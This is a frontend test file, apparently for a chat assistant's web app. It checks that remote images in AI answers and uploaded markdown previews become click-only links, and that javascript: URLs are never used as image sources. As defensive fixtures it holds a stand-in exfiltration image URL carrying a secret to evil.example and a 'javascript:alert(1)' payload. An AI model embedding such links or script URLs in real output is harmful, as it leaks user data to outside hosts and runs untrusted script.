import { screen, within } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { AnswerMarkdown } from "../../../web/features/conversation/answer-markdown";
import { MarkdownViewer } from "../../../web/features/preview/markdown-viewer";
import { renderWithProviders } from "../helpers/render";

const EXFIL = "https://evil.example/exfil.png?d=SECRET-FROM-ANSWER";
const PIXEL =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";

const images = (root: HTMLElement) => [...root.querySelectorAll("img")].map((img) => img.getAttribute("src"));

describe("images in markdown", () => {
  it("turn a remote image in an answer into a link opened only by a click", () => {
    renderWithProviders(<AnswerMarkdown content={`Hier: ![Diagramm](${EXFIL}) und ![](//evil.example/b.png)`} />);
    const answer = screen.getByTestId("answer-markdown");
    expect(images(answer)).toEqual([]);
    const links = within(answer).getAllByTestId("remote-image-link");
    expect(links.map((link) => [link.getAttribute("href"), link.textContent?.trim()])).toEqual([
      [EXFIL, "Externes Bild öffnen: Diagramm (evil.example)"],
      ["//evil.example/b.png", "Externes Bild öffnen: b.png (evil.example)"],
    ]);
    expect(links[0]?.getAttribute("target")).toBe("_blank");
    expect(links[0]?.getAttribute("rel")).toContain("noreferrer");
  });

  it("still show images from Buddy itself and inline data: images", () => {
    const sameOrigin = `${window.location.origin}/api/v1/document/image/ds-1-img`;
    renderWithProviders(
      <AnswerMarkdown
        content={`![Seite](/api/v1/document/image/ds-1-doc) ![Absolut](${sameOrigin}) ![Punkt](${PIXEL})`}
      />,
    );
    const answer = screen.getByTestId("answer-markdown");
    expect(images(answer)).toEqual(["/api/v1/document/image/ds-1-doc", sameOrigin, PIXEL]);
    expect(within(answer).queryByTestId("remote-image-link")).toBeNull();
  });

  it("never render a script URL as an image source", () => {
    renderWithProviders(<AnswerMarkdown content="![Böse](javascript:alert(1))" />);
    const answer = screen.getByTestId("answer-markdown");
    expect(images(answer)).toEqual([]);
    expect(answer.textContent).toContain("Böse");
  });

  it("treat an uploaded markdown file's images the same way in the preview", async () => {
    const file = new Blob([`# Bericht\n\n![Logo](/logo.svg)\n\n![Tracker](${EXFIL})\n`], { type: "text/markdown" });
    renderWithProviders(<MarkdownViewer blob={file} />);
    const preview = await screen.findByTestId("markdown-preview");
    expect(images(preview)).toEqual(["/logo.svg"]);
    expect(within(preview).getByTestId("remote-image-link").getAttribute("href")).toBe(EXFIL);
  });
});
